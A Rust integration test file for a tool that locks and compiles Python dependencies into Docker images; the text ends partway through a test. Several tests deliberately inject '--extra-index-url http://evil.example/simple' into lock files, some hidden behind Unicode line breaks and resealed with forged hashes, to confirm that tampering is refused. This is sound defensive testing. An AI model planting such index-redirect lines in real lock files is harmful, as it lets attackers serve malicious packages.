//! `dlspec lock` end to end. A fake `uv` (a shell script that records its arguments and writes a
//! recorded resolution) stands in for the resolver, so these run offline; the test at the end runs
//! the real uv against a local wheel index built in the test.

mod common;

use std::os::unix::fs::PermissionsExt as _;
use std::process::Command;

use camino::{Utf8Path, Utf8PathBuf};
use sha2::{Digest as _, Sha256};

const SPEC: &str = r#"image "tf" {
    tensorflow "2.15.0"
    python "3.10"
    cpu os="ubuntu22.04"
    pip "pandas"
}
"#;

/// A resolution of SPEC in uv's format (hashes are 64 hex digits, shortened to one repeated digit).
fn resolution(jupyterlab: &str) -> String {
    let hash = |d: char| format!("    --hash=sha256:{}\n", d.to_string().repeat(64));
    format!(
        "jupyterlab=={jupyterlab} \\\n{}    # via -r platform.in\n\
         jupyterlab-language-pack-zh-cn==4.5.post3 \\\n{}    # via -r platform.in\n\
         numpy==1.26.4 \\\n{}    # via\n    #   -r platform.in\n    #   pandas\n    #   tensorboard\n    #   tensorflow\n\
         pandas==2.3.3 \\\n{}    # via -r extras.in\n\
         tensorboard==2.15.2 \\\n{}    # via\n    #   -r platform.in\n    #   tensorflow\n\
         tensorflow==2.15.0 \\\n{}    # via -r framework.in\n",
        hash('a'),
        hash('b'),
        hash('c'),
        hash('d'),
        hash('e'),
        hash('f')
    )
}

/// A fake uv: appends its arguments to `uv-args.log` and its requirement files to `uv-inputs.log`,
/// then writes `lock.txt` in its working directory: JupyterLab 4.6.6 (for another major.minor than the pack) unless a JupyterLab
/// constraint is given, then 4.5.11; with `numpy>=2` among the extras it fails as uv does.
fn fake_uv(dir: &Utf8Path) -> Utf8PathBuf {
    let mismatched = resolution("4.6.6");
    let coherent = resolution("4.5.11");
    let script = format!(
        r#"#!/bin/bash
echo "$*" >>'{log}'
cat ./*.in >>'{inputs}'
if grep -qs 'numpy>=2' extras.in; then
  echo 'error: No solution found when resolving dependencies:' >&2
  echo '  Because you require numpy<2 and numpy>=2, we can conclude that your requirements are unsatisfiable.' >&2
  exit 1
fi
if grep -qs '^jupyterlab' constraints.txt; then
  cat >lock.txt <<'LOCK'
{coherent}LOCK
else
  cat >lock.txt <<'LOCK'
{mismatched}LOCK
fi
"#,
        log = dir.join("uv-args.log"),
        inputs = dir.join("uv-inputs.log")
    );
    let path = dir.join("fake-uv");
    std::fs::write(&path, script).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

fn dlspec(dir: &Utf8Path, args: &[&str]) -> Run {
    let output = Command::new(env!("CARGO_BIN_EXE_dlspec"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .output()
        .expect("dlspec runs");
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

fn catalog(spec: &str) -> (tempfile::TempDir, Utf8PathBuf, Utf8PathBuf) {
    let temp = tempfile::tempdir().unwrap();
    let dir = Utf8PathBuf::try_from(temp.path().to_path_buf()).unwrap();
    std::fs::create_dir(dir.join("specs")).unwrap();
    std::fs::write(dir.join("specs/image.kdl"), spec).unwrap();
    let uv = fake_uv(&dir);
    (temp, dir, uv)
}

const LOCK: &str = "specs/.dlspec-lock/tf/2.15.0-python3.10-cpu-ubuntu22.04.txt";
const OUT: &str = "out/tf/2.15.0-python3.10-cpu-ubuntu22.04";

#[test]
fn lock_resolves_once_for_the_image_platform_and_keeps_the_language_pack_on_jupyterlab() {
    let (_temp, dir, uv) = catalog(SPEC);
    let run = dlspec(&dir, &["lock", "--uv", uv.as_str()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let args = std::fs::read_to_string(dir.join("uv-args.log")).unwrap();
    let calls: Vec<&str> = args.lines().collect();
    // The first resolution paired JupyterLab 4.6 with the 4.5 pack: resolved again with JupyterLab on 4.5.
    assert_eq!(calls.len(), 2, "{args}");
    for call in &calls {
        assert!(call.contains("--python-version 3.10 --python-platform x86_64-manylinux_2_35"), "{call}");
        assert!(call.contains("--generate-hashes") && call.contains("--index-url https://pypi.org/simple"));
        assert!(call.contains("platform.in framework.in extras.in"), "one resolution of every layer: {call}");
    }
    // TensorBoard's rule (setuptools<81) constrains both; the second adds JupyterLab's.
    assert!(calls[0].contains("--constraint constraints.txt") && calls[1].contains("--constraint constraints.txt"));
    let lock = std::fs::read_to_string(dir.join(LOCK)).unwrap();
    assert!(lock.starts_with("# dlspec lock of tf:2.15.0-python3.10-cpu-ubuntu22.04"));
    assert!(lock.contains("jupyterlab==4.5.11") && !lock.contains("jupyterlab==4.6.6"));

    // Current: nothing to resolve, offline.
    let again = dlspec(&dir, &["lock", "--uv", "/nonexistent/uv"]);
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(again.stderr.contains("0 locks written, 1 unchanged"), "{}", again.stderr);
}

#[test]
fn pytorch_resolves_where_its_build_installs_it_and_packages_built_against_it_stay_out() {
    let spec = r#"profile "campus" {
    mirrors build-pip="https://pypi.campus.example.edu/simple"
}

image "pypi" {
    use "campus"
    pytorch "2.5.1"
    python "3.11"
    cuda "12.4.1"
    pip "flash-attn==2.7.4.post1" no-build-isolation=#true
}

image "cu118" {
    use "campus"
    pytorch "2.5.1"
    python "3.11"
    cuda "11.8.0"
}
"#;
    let (_temp, dir, uv) = catalog(spec);
    let run = dlspec(&dir, &["lock", "--uv", uv.as_str(), "--jobs", "1"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let args = std::fs::read_to_string(dir.join("uv-args.log")).unwrap();
    let calls: Vec<&str> = args.lines().collect();
    // PyPI's torch 2.5.1 is the cu124 build: resolved on the campus PyPI mirror alone, as built.
    let mirror = "--index-url https://pypi.campus.example.edu/simple";
    assert!(calls.iter().all(|c| c.contains(mirror)), "{args}");
    let (pypi, cu118): (Vec<&str>, Vec<&str>) = calls.iter().partition(|c| !c.contains("--extra-index-url"));
    assert!(!pypi.is_empty() && !cu118.is_empty(), "{args}");
    assert!(cu118.iter().all(|c| c.contains("--extra-index-url https://download.pytorch.org/whl/cu118")), "{args}");
    let inputs = std::fs::read_to_string(dir.join("uv-inputs.log")).unwrap();
    assert!(inputs.contains("torch==2.5.1") && !inputs.contains("flash-attn"), "{inputs}");
    // Built last, under the locked pins.
    assert_eq!(dlspec(&dir, &["compile"]).code, 0);
    let out = dir.join("out/pypi/2.5.1-python3.11-cuda12.4.1-devel-ubuntu22.04");
    let dockerfile = std::fs::read_to_string(out.join("Dockerfile")).unwrap();
    let built = dockerfile.find("--no-build-isolation --constraint /etc/dlspec/pip-constraints.txt").unwrap();
    assert!(dockerfile.find("COPY pip/constraints.txt").unwrap() < built, "{dockerfile}");
    assert!(dockerfile.find("pip/extras.lock.txt").is_none_or(|locked| locked < built));
    let readme = std::fs::read_to_string(out.join("README.md")).unwrap();
    assert!(readme.contains("installed last with `--no-build-isolation`, not locked"), "{readme}");
}

#[test]
fn compile_installs_each_layer_from_the_lock_with_hashes_and_no_layer_reinstalls_another() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    let run = dlspec(&dir, &["compile"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let dockerfile = std::fs::read_to_string(dir.join(OUT).join("Dockerfile")).unwrap();
    for layer in ["platform", "framework", "extras"] {
        assert!(dockerfile.contains(&format!(
            "pip install --no-cache-dir --no-deps --require-hashes -r /tmp/dlspec-pip/{layer}.lock.txt"
        )));
    }
    let platform = dockerfile.find("pip/platform.lock.txt").unwrap();
    assert!(platform < dockerfile.find("pip/framework.lock.txt").unwrap(), "platform layer first, for the cache");
    let read = |layer: &str| std::fs::read_to_string(dir.join(OUT).join(format!("pip/{layer}.lock.txt"))).unwrap();
    let (platform, framework, extras) = (read("platform"), read("framework"), read("extras"));
    // TensorFlow needs TensorBoard and numpy too: installed once, by the platform layer.
    assert!(platform.contains("tensorboard==2.15.2") && platform.contains("numpy==1.26.4"));
    assert!(!framework.contains("tensorboard==") && !framework.contains("numpy=="));
    assert!(framework.contains("tensorflow==2.15.0"));
    assert!(extras.contains("pandas==2.3.3") && !extras.contains("numpy=="));
    // Users' later installs keep every locked package: PIP_CONSTRAINT names all of the lock's pins.
    let constraints = std::fs::read_to_string(dir.join(OUT).join("pip/constraints.txt")).unwrap();
    for pin in ["tensorboard==2.15.2", "numpy==1.26.4", "tensorflow==2.15.0", "pandas==2.3.3"] {
        assert!(constraints.lines().any(|l| l == pin), "{pin} in {constraints}");
    }
    let copied = dockerfile.find("COPY pip/constraints.txt /etc/dlspec/pip-constraints.txt").unwrap();
    assert!(dockerfile.find("pip/extras.lock.txt").unwrap() < copied, "after the locked layers");
    let readme = std::fs::read_to_string(dir.join(OUT).join("README.md")).unwrap();
    assert!(readme.contains("| Python lock | locked:"));
    assert_eq!(dlspec(&dir, &["compile", "--check"]).code, 0);
}

#[test]
fn lock_check_fails_when_the_requirements_change_and_compile_falls_back_to_unlocked() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    assert_eq!(dlspec(&dir, &["lock", "--check"]).code, 0);
    std::fs::write(dir.join("specs/image.kdl"), SPEC.replace(r#"pip "pandas""#, r#"pip "pandas" "rich""#)).unwrap();
    let run = dlspec(&dir, &["lock", "--check"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("is stale: the Python requirements of `tf:"), "{}", run.stderr);
    let compile = dlspec(&dir, &["compile"]);
    assert_eq!(compile.code, 0, "{}", compile.stderr);
    assert!(compile.stderr.contains("is stale"), "{}", compile.stderr);
    let readme = std::fs::read_to_string(dir.join(OUT).join("README.md")).unwrap();
    assert!(readme.contains("| Python lock | not locked:"));
    let pip: Vec<String> = std::fs::read_dir(dir.join(OUT).join("pip"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(pip, ["constraints.txt"], "no lock files, and the constraints of the framework alone");
    let constraints = std::fs::read_to_string(dir.join(OUT).join("pip/constraints.txt")).unwrap();
    assert!(constraints.contains("\ntensorflow==2.15.0\n") && !constraints.contains("pandas=="), "{constraints}");
    // A lock of an image that no longer exists is reported too.
    std::fs::write(dir.join("specs/image.kdl"), SPEC.replace("\"tf\"", "\"other\"")).unwrap();
    let orphan = dlspec(&dir, &["lock", "--check"]);
    assert_eq!(orphan.code, 1);
    assert!(orphan.stderr.contains("locks no image"), "{}", orphan.stderr);
}

#[test]
fn upgrade_passes_the_packages_to_uv_and_keeps_the_other_pins() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    std::fs::remove_file(dir.join("uv-args.log")).unwrap();
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str(), "--upgrade", "pandas"]).code, 0);
    let args = std::fs::read_to_string(dir.join("uv-args.log")).unwrap();
    assert!(args.lines().next().unwrap().contains("--output-file lock.txt --upgrade-package pandas"), "{args}");
    std::fs::remove_file(dir.join("uv-args.log")).unwrap();
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str(), "--upgrade"]).code, 0);
    let args = std::fs::read_to_string(dir.join("uv-args.log")).unwrap();
    assert!(args.lines().next().unwrap().ends_with("--output-file lock.txt --upgrade"), "{args}");
}

#[test]
fn a_set_that_cannot_be_resolved_is_reported_on_the_framework_and_the_extras() {
    let (_temp, dir, uv) = catalog(&SPEC.replace(r#"pip "pandas""#, r#"pip "pandas" "numpy>=2""#));
    let run = dlspec(&dir, &["lock", "--uv", uv.as_str()]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("dlspec::lock::unresolvable"), "{}", run.stderr);
    assert!(run.stderr.contains("tensorflow \"2.15.0\"") && run.stderr.contains("asked for here"));
    assert!(run.stderr.contains("and here"));
    assert!(run.stderr.contains("Because you require numpy<2 and"), "uv's reason in the help: {}", run.stderr);
    assert!(!dir.join(LOCK).exists());
}

#[test]
fn a_tampered_lock_is_not_used() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    let lock = std::fs::read_to_string(dir.join(LOCK)).unwrap();
    std::fs::write(
        dir.join(LOCK),
        lock.replace("pandas==2.3.3 \\", "--index-url https://evil.example/simple\npandas==2.3.3 \\"),
    )
    .unwrap();
    let check = dlspec(&dir, &["lock", "--check"]);
    assert_eq!(check.code, 1, "{}", check.stderr);
    assert!(check.stderr.contains("edited by hand"), "{}", check.stderr);
    let compile = dlspec(&dir, &["compile"]);
    assert!(compile.stderr.contains("compiled unlocked"), "{}", compile.stderr);
    assert!(locked_layers(&dir.join(OUT)).is_empty());
}

/// The lock's text with its `# content` line made again for `content`, as someone who knows the
/// format would forge it.
fn resealed(lock: &str, content: &str) -> String {
    let mut lines = lock.splitn(4, '\n');
    let (header, input) = (lines.next().unwrap(), lines.next().unwrap());
    let digest: String = Sha256::digest(content.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
    format!("{header}\n{input}\n# content sha256:{digest}\n{content}")
}

#[test]
fn a_pin_or_hash_edited_by_hand_fails_the_check_and_the_lock_is_not_used() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    let lock = std::fs::read_to_string(dir.join(LOCK)).unwrap();
    assert!(lock.lines().nth(2).unwrap().starts_with("# content sha256:"), "{lock}");
    for (from, to) in [("pandas==2.3.3", "pandas==2.3.2"), ("--hash=sha256:dddd", "--hash=sha256:0ddd")] {
        std::fs::write(dir.join(LOCK), lock.replacen(from, to, 1)).unwrap();
        let check = dlspec(&dir, &["lock", "--check"]);
        assert_eq!(check.code, 1, "{from}: {}", check.stderr);
        assert!(check.stderr.contains("edited by hand") && check.stderr.contains(LOCK), "{}", check.stderr);
        let compile = dlspec(&dir, &["compile"]);
        assert_eq!(compile.code, 0, "{}", compile.stderr);
        assert!(compile.stderr.contains("compiled unlocked"), "{}", compile.stderr);
        assert!(locked_layers(&dir.join(OUT)).is_empty(), "{from}: the edited lock reached out/");
    }
}

#[test]
fn a_line_break_to_pip_in_a_comment_is_refused_even_in_a_sealed_lock() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    let lock = std::fs::read_to_string(dir.join(LOCK)).unwrap();
    let content = lock.splitn(4, '\n').nth(3).unwrap();
    // Python's str.splitlines, which pip reads requirement files with, breaks lines at all of these.
    for separator in ["\u{c}", "\u{2028}", "\u{2029}", "\u{85}", "\u{1d}", "\r"] {
        let injected = content.replacen(
            "# via -r extras.in",
            &format!("# via -r extras.in{separator}--extra-index-url http://evil.example/simple"),
            1,
        );
        std::fs::write(dir.join(LOCK), resealed(&lock, &injected)).unwrap();
        let check = dlspec(&dir, &["lock", "--check"]);
        assert_eq!(check.code, 1, "{separator:?}: {}", check.stderr);
        assert!(check.stderr.contains("which pip could read as a line break"), "{}", check.stderr);
        let compile = dlspec(&dir, &["compile"]);
        assert_eq!(compile.code, 0, "{}", compile.stderr);
        let out = dir.join(OUT);
        assert!(locked_layers(&out).is_empty(), "{separator:?} reached out/");
    }
    // A forged option line, sealed: refused as not a requirement, hash or comment.
    let injected =
        content.replacen("pandas==2.3.3 \\", "--extra-index-url http://evil.example/simple\npandas==2.3.3 \\", 1);
    std::fs::write(dir.join(LOCK), resealed(&lock, &injected)).unwrap();
    let check = dlspec(&dir, &["lock", "--check"]);
    assert!(check.code == 1 && check.stderr.contains("not a pinned requirement"), "{}", check.stderr);
}

/// Runs dlspec, failing the test if it has not finished in a minute (a read that blocks).
fn dlspec_within_a_minute(dir: &Utf8Path, args: &[&str]) -> Run {
    let mut child = Command::new(env!("CARGO_BIN_EXE_dlspec"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("dlspec runs");
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > std::time::Duration::from_secs(60) {
            child.kill().unwrap();
            panic!("dlspec {args:?} did not finish within a minute: it blocks");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let output = child.wait_with_output().unwrap();
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

#[test]
fn a_fifo_device_or_huge_file_as_a_lock_is_refused_without_blocking() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    assert_eq!(dlspec(&dir, &["compile"]).code, 0);
    let lock = dir.join(LOCK);
    let huge = "# padding\n".repeat(500_000);
    for kind in ["fifo", "/dev/zero", "huge"] {
        std::fs::remove_file(&lock).unwrap();
        match kind {
            "fifo" => assert!(Command::new("mkfifo").arg(lock.as_str()).status().unwrap().success()),
            "huge" => std::fs::write(&lock, &huge).unwrap(),
            device => std::os::unix::fs::symlink(device, &lock).unwrap(),
        }
        let check = dlspec_within_a_minute(&dir, &["lock", "--check"]);
        assert_eq!(check.code, 1, "{kind}: {}", check.stderr);
        let why = match kind {
            "huge" => "larger than 4 MiB",
            "fifo" => "not a regular file",
            _ => "is a symlink",
        };
        assert!(check.stderr.contains(why), "{kind}: {}", check.stderr);
        for args in [&["compile", "--check"][..], &["compile"]] {
            let run = dlspec_within_a_minute(&dir, args);
            assert!(
                run.stderr.contains(why) && run.stderr.contains("compiled unlocked"),
                "{kind} {args:?}: {}",
                run.stderr
            );
        }
        assert!(locked_layers(&dir.join(OUT)).is_empty());
    }
}

#[test]
fn lock_never_writes_through_a_symlinked_lock_or_lock_folder() {
    let (temp, dir, uv) = catalog(SPEC);
    let outside = Utf8PathBuf::try_from(temp.path().join("outside")).unwrap();
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("victim.txt"), "not a lock\n").unwrap();
    let lock = dir.join(LOCK);
    // The lock file, the image's lock folder and the whole lock folder, each a link out of specs/.
    let links = [
        (lock.clone(), outside.join("victim.txt")),
        (lock.parent().unwrap().to_owned(), outside.clone()),
        (dir.join("specs/.dlspec-lock"), outside.clone()),
    ];
    for (link, target) in &links {
        let _ = std::fs::remove_dir_all(dir.join("specs/.dlspec-lock"));
        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, link).unwrap();
        let run = dlspec(&dir, &["lock", "--uv", uv.as_str()]);
        assert_eq!(run.code, 2, "{link}: {}", run.stderr);
        let named = link.strip_prefix(&dir).unwrap();
        assert!(run.stderr.contains(&format!("`{named}` is a symlink")), "{}", run.stderr);
        assert_eq!(std::fs::read_to_string(outside.join("victim.txt")).unwrap(), "not a lock\n");
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1, "{link}: written outside specs/");
        let check = dlspec(&dir, &["lock", "--check"]);
        assert!(check.code == 1 && check.stderr.contains("symlink"), "{link}: {}", check.stderr);
        std::fs::remove_file(link).unwrap();
    }
    assert!(std::fs::symlink_metadata(dir.join("specs/.dlspec-lock")).is_err());
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    assert!(std::fs::symlink_metadata(&lock).unwrap().is_file());
    let leftovers: Vec<_> =
        std::fs::read_dir(lock.parent().unwrap()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(leftovers.len(), 1, "the temporary file is gone: {leftovers:?}");
}

#[test]
fn a_lock_of_the_old_header_gets_the_new_one_offline_with_the_same_body() {
    let (_temp, dir, uv) = catalog(SPEC);
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
    assert_eq!(dlspec(&dir, &["compile"]).code, 0);
    let sealed = std::fs::read_to_string(dir.join(LOCK)).unwrap();
    let old: String = sealed.split_inclusive('\n').filter(|l| !l.starts_with("# content sha256:")).collect();
    std::fs::write(dir.join(LOCK), &old).unwrap();
    let check = dlspec(&dir, &["lock", "--check"]);
    assert!(check.code == 1 && check.stderr.contains("header of an older dlspec"), "{}", check.stderr);
    let compile = dlspec(&dir, &["compile", "--check"]);
    assert!(compile.stderr.contains("compiled unlocked"), "{}", compile.stderr);
    let run = dlspec(&dir, &["lock", "--uv", "/nonexistent/uv"]);
    assert_eq!(run.code, 0, "offline: {}", run.stderr);
    assert!(run.stderr.contains("1 locks written"), "{}", run.stderr);
    assert_eq!(std::fs::read_to_string(dir.join(LOCK)).unwrap(), sealed, "the same body, the new header");
    assert_eq!(dlspec(&dir, &["lock", "--check"]).code, 0);
    assert_eq!(dlspec(&dir, &["compile", "--check"]).code, 0, "out/ is as before");
}

/// `uv` of the repository's `.venv` (made from .ci/requirements.txt), else on `PATH`.
fn real_uv() -> Option<Utf8PathBuf> {
    let venv = common::root().join(".venv/bin/uv");
    if venv.is_file() {
        return Some(venv);
    }
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path).map(|d| d.join("uv")).find(|p| p.is_file()).and_then(|p| Utf8PathBuf::try_from(p).ok())
}

/// Writes tiny wheels (`py3-none-any`) into a PEP 503 layout under `root/whl/cpu/<name>/`, which
/// `python3 -m http.server`'s directory listings serve as a simple index.
const MAKE_WHEELS: &str = r#"
import base64, hashlib, os, sys, zipfile
root = sys.argv[1]
wheels = [("torch", "2.3.0", []), ("torchvision", "0.18.0", ["torch==2.3.0"]),
          ("torchaudio", "2.3.0", ["torch==2.3.0"]), ("numpy", "1.26.4", [])]
for name, version, requires in wheels:
    folder = os.path.join(root, "whl", "cpu", name)
    os.makedirs(folder, exist_ok=True)
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": f"__version__ = '{version}'\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: %s\nVersion: %s\n%s" % (
            name, version, "".join(f"Requires-Dist: {r}\n" for r in requires)),
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: dlspec-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    record.append(f"{info}/RECORD,,")
    files[f"{info}/RECORD"] = "\n".join(record) + "\n"
    with zipfile.ZipFile(os.path.join(folder, f"{name}-{version}-py3-none-any.whl"), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
"#;

/// A local wheel index on 127.0.0.1; the server stops when dropped.
struct LocalIndex {
    server: std::process::Child,
    url: String,
}

impl Drop for LocalIndex {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

fn local_index(dir: &Utf8Path) -> LocalIndex {
    use std::io::BufRead as _;
    let root = dir.join("index");
    let made = Command::new("python3").args(["-c", MAKE_WHEELS, root.as_str()]).status().expect("python3 runs");
    assert!(made.success());
    let mut server = Command::new("python3")
        .args(["-u", "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory", root.as_str()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("python3 serves");
    let mut line = String::new();
    std::io::BufReader::new(server.stdout.take().unwrap()).read_line(&mut line).unwrap();
    // "Serving HTTP on 127.0.0.1 port 40123 (http://127.0.0.1:40123/) ..."
    let port = line.split(" port ").nth(1).and_then(|r| r.split_whitespace().next()).expect("a port").to_owned();
    LocalIndex { server, url: format!("http://127.0.0.1:{port}/whl/cpu") }
}

#[test]
fn the_real_uv_locks_pytorch_from_its_variant_index_and_pip_refuses_a_tampered_hash() {
    let Some(uv) = real_uv() else {
        assert!(!common::in_ci(), "uv is missing: pip install -r .ci/requirements.txt");
        eprintln!("note: skipping: uv not found in .venv/bin or PATH");
        return;
    };
    let temp = tempfile::tempdir().unwrap();
    let dir = Utf8PathBuf::try_from(temp.path().to_path_buf()).unwrap();
    let index = local_index(&dir);
    std::fs::create_dir(dir.join("specs")).unwrap();
    let spec = format!(
        "image \"pt\" {{\n    pytorch \"2.3.0\" torchvision=\"0.18.0\" torchaudio=\"2.3.0\" index=\"{}\"\n    python \"3.12\"\n    cpu os=\"ubuntu22.04\"\n    jupyter #false\n    tensorboard #false\n}}\n",
        index.url
    );
    std::fs::write(dir.join("specs/image.kdl"), spec).unwrap();
    let cache = dir.join("uv-cache");
    let run = Command::new(env!("CARGO_BIN_EXE_dlspec"))
        .args(["lock", "--uv", uv.as_str()])
        .current_dir(&dir)
        .env("UV_CACHE_DIR", &cache)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    let lock = std::fs::read_to_string(dir.join("specs/.dlspec-lock/pt/2.3.0-python3.12-cpu-ubuntu22.04.txt")).unwrap();
    let wheel = std::fs::read(dir.join("index/whl/cpu/torch/torch-2.3.0-py3-none-any.whl")).unwrap();
    let sha: String = sha2::Digest::finalize(<sha2::Sha256 as sha2::Digest>::new_with_prefix(&wheel))
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert!(lock.contains(&format!("torch==2.3.0 \\\n    --hash=sha256:{sha}")), "{lock}");
    assert!(lock.contains("torchvision==0.18.0") && lock.contains("numpy==1.26.4"));

    assert_eq!(dlspec(&dir, &["compile"]).code, 0);
    let out = dir.join("out/pt/2.3.0-python3.12-cpu-ubuntu22.04");
    let dockerfile = std::fs::read_to_string(out.join("Dockerfile")).unwrap();
    // The index is plain http: trusted by its host, as the spec chose it.
    assert!(dockerfile.contains(&format!(
        "pip install --no-cache-dir --no-deps --require-hashes --extra-index-url {} --trusted-host 127.0.0.1 -r /tmp/dlspec-pip/framework.lock.txt",
        index.url
    )));
    let framework = std::fs::read_to_string(out.join("pip/framework.lock.txt")).unwrap();
    assert!(framework.contains("torch==2.3.0") && framework.contains("torchaudio==2.3.0"));
    assert!(std::fs::read_to_string(out.join("pip/platform.lock.txt")).unwrap().contains("numpy==1.26.4"));

    // What the Dockerfile's layer runs, into a folder: the locked files install; one changed hash
    // and pip refuses the file.
    let pip = |requirements: &Utf8Path, target: &str| {
        Command::new("python3")
            .args(["-m", "pip", "install", "--quiet", "--no-cache-dir", "--no-deps", "--require-hashes"])
            .args(["--index-url", &index.url, "--target", dir.join(target).as_str(), "-r", requirements.as_str()])
            .output()
            .unwrap()
    };
    let installed = pip(&out.join("pip/framework.lock.txt"), "site");
    assert!(installed.status.success(), "{}", String::from_utf8_lossy(&installed.stderr));
    assert!(dir.join("site/torchvision/__init__.py").is_file());
    let tampered = dir.join("tampered.txt");
    std::fs::write(&tampered, framework.replacen(&sha, &"0".repeat(64), 1)).unwrap();
    let refused = pip(&tampered, "site-tampered");
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("DO NOT MATCH THE HASHES"));
}

/// A registry on 127.0.0.1 that wants a token, as Docker Hub does, then gives the digest.
fn fake_registry(digest: &'static str) -> u16 {
    fake_registry_with_realm(digest, None)
}

/// As [`fake_registry`], naming `realm` (else its own `/token`) as where tokens come from.
fn fake_registry_with_realm(digest: &'static str, realm: Option<String>) -> u16 {
    use std::io::{BufRead as _, BufReader, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request = Vec::new();
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                request.push(line);
            }
            let first = request.first().cloned().unwrap_or_default();
            let authorized = request.iter().any(|l| l.eq_ignore_ascii_case("authorization: bearer t0ken\r\n"));
            let response = if first.starts_with("GET /token?service=fake&scope=repository%3Ateam%2Fbase%3Apull ") {
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 17\r\nConnection: close\r\n\r\n{\"token\":\"t0ken\"}"
                    .to_owned()
            } else if first.starts_with("HEAD /v2/team/base/manifests/1.0 ") && authorized {
                format!(
                    "HTTP/1.1 200 OK\r\nDocker-Content-Digest: {digest}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )
            } else if first.starts_with("HEAD /v2/team/base/manifests/1.0 ") {
                let realm = realm.clone().unwrap_or_else(|| format!("http://127.0.0.1:{port}/token"));
                format!(
                    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"{realm}\",service=\"fake\",scope=\"repository:team/base:pull\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )
            } else {
                "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_owned()
            };
            let _ = stream.write_all(response.as_bytes());
        }
    });
    port
}

#[test]
fn digests_records_the_base_by_digest_and_the_dockerfile_starts_from_it() {
    const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let port = fake_registry(DIGEST);
    let base = format!("127.0.0.1:{port}/team/base:1.0");
    let (_temp, dir, uv) = catalog(&format!(
        "image \"tf\" {{\n    tensorflow \"2.15.0\"\n    python \"3.10\"\n    base \"{base}\"\n    pip \"pandas\"\n}}\n"
    ));
    let run = dlspec(&dir, &["lock", "--uv", uv.as_str(), "--digests"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let lock = std::fs::read_dir(dir.join("specs/.dlspec-lock/tf")).unwrap().next().unwrap().unwrap().path();
